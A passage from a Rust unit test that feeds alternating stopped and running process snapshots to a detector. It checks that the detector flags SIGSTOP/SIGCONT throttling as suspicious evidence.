        let mut last = Vec::new();
        for i in 1..=6u64 {
            let cur = snap(t0 + std::time::Duration::from_secs(i), 80 * i, if i % 2 == 1 { 'T' } else { 'R' });
            last = d.assess(Some(&prev), &cur, &[], 0);
            prev = cur;
        }
        let f = &last[0];
        assert!(
            f.evidence.iter().any(
                |e| matches!(&e.detail, EvidenceKind::Throttled { how } if how.contains("SIGSTOP/SIGCONT"))
                    && e.weight == Weight::Suspicious
            ),
            "{:?}",
            f.evidence
        );
    }
}
